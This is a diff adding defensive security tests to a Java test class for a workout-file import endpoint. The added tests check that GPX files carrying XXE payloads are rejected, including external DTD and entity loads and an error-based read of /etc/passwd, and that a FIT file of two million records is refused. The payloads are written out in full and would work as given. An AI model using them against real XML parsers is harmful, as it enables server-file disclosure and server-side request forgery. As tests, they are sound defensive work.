@@ -148,4 +148,86 @@ class HostileClientTest {
     assertThat(error.at("/code").asInt()).isEqualTo(Status.Code.RESOURCE_EXHAUSTED.value());
     assertThat(error.at("/message").asText()).contains("at most").doesNotContain("com.", "Armeria", "Deframer");
   }
+
+  // 1. GPX import reads server files and fetches URLs (XXE/SSRF).
+
+  private static final String TRACK = "<trk><trkseg>"
+      + "<trkpt lat=\"46.0\" lon=\"14.5\"><time>2026-11-20T07:00:00Z</time></trkpt>"
+      + "<trkpt lat=\"46.001\" lon=\"14.5\"><time>2026-11-20T07:00:30Z</time></trkpt>"
+      + "</trkseg></trk>";
+
+  private MobileClient.Reply importFile(String format, byte[] data) {
+    return app.post("/v1/workouts:import", Map.of("workoutId", "imp-" + UUID.randomUUID(), "format", format,
+        "sport", "SPORT_RUN", "timeZone", "UTC", "data", java.util.Base64.getEncoder().encodeToString(data)));
+  }
+
+  @Test
+  void aGpxWithAnExternalDtdOrEntity_makesTheServerFetchNothing_andIsInvalidArgument() throws Exception {
+    java.util.concurrent.atomic.AtomicInteger fetched = new java.util.concurrent.atomic.AtomicInteger();
+    com.sun.net.httpserver.HttpServer listener = com.sun.net.httpserver.HttpServer.create(
+        new java.net.InetSocketAddress("127.0.0.1", 0), 0);
+    listener.createContext("/", exchange -> {
+      fetched.incrementAndGet();
+      byte[] dtd = "<!ENTITY % all \"<!ENTITY send SYSTEM 'http://127.0.0.1/leak'>\">".getBytes();
+      exchange.sendResponseHeaders(200, dtd.length);
+      exchange.getResponseBody().write(dtd);
+      exchange.close();
+    });
+    listener.start();
+    try {
+      String base = "http://127.0.0.1:" + listener.getAddress().getPort();
+      String[] attacks = {
+          "<?xml version=\"1.0\"?><!DOCTYPE gpx SYSTEM \"" + base + "/evil.dtd\"><gpx version=\"1.1\">"
+              + TRACK + "</gpx>",
+          "<?xml version=\"1.0\"?><!DOCTYPE gpx [<!ENTITY % remote SYSTEM \"" + base + "/evil.dtd\"> %remote;]>"
+              + "<gpx version=\"1.1\">" + TRACK + "</gpx>",
+          "<?xml version=\"1.0\"?><!DOCTYPE gpx [<!ENTITY ext SYSTEM \"" + base + "/data\">]>"
+              + "<gpx version=\"1.1\"><metadata><name>&ext;</name></metadata>" + TRACK + "</gpx>"};
+      for (String attack : attacks) {
+        MobileClient.Reply reply = importFile("IMPORT_FORMAT_GPX", attack.getBytes(StandardCharsets.UTF_8));
+
+        assertInvalidArgumentInTheUsualShape(reply.status(), reply.body());
+      }
+      Thread.sleep(500);
+      assertThat(fetched.get()).as("requests the server made to the attacker's URL").isZero();
+    } finally {
+      listener.stop(0);
+    }
+  }
+
+  @Test
+  void anErrorBasedXxeGpx_returnsNoFileContent() {
+    String attack = "<?xml version=\"1.0\"?><!DOCTYPE gpx ["
+        + "<!ENTITY % file SYSTEM \"file:///etc/passwd\">"
+        + "<!ENTITY % eval \"<!ENTITY &#x25; error SYSTEM 'file:///nonexistent/%file;'>\">"
+        + "%eval; %error;]><gpx version=\"1.1\">" + TRACK + "</gpx>";
+
+    MobileClient.Reply reply = importFile("IMPORT_FORMAT_GPX", attack.getBytes(StandardCharsets.UTF_8));
+
+    assertInvalidArgumentInTheUsualShape(reply.status(), reply.body());
+    assertThat(reply.body().toString()).doesNotContain("root:", "/bin/", "nonexistent", "passwd");
+  }
+
+  // 2. One small import exhausts memory.
+
+  @Test
+  void aFitFileOfTwoMillionTinyRecords_isRefusedWithTheLimit_andStoresNothing() {
+    com.garmin.fit.BufferEncoder encoder = new com.garmin.fit.BufferEncoder(com.garmin.fit.Fit.ProtocolVersion.V1_0);
+    com.garmin.fit.RecordMesg tiny = new com.garmin.fit.RecordMesg();
+    tiny.setHeartRate((short) 120);
+    for (int i = 0; i < 2_000_000; i++) {
+      encoder.write(tiny);
+    }
+    byte[] bomb = encoder.close();
+    assertThat(bomb.length).as("a small file").isLessThan(5 * 1024 * 1024);
+    String id = "bomb-" + UUID.randomUUID();
+
+    MobileClient.Reply reply = app.post("/v1/workouts:import", Map.of("workoutId", id,
+        "format", "IMPORT_FORMAT_FIT", "sport", "SPORT_RUN", "timeZone", "UTC",
+        "data", java.util.Base64.getEncoder().encodeToString(bomb)));
+
+    assertInvalidArgumentInTheUsualShape(reply.status(), reply.body());
+    assertThat(reply.body().at("/message").asText()).contains("1000000");
+    assertThat(app.get("/v1/workouts/" + id).status()).as("nothing was stored").isEqualTo(404);
+  }
 }
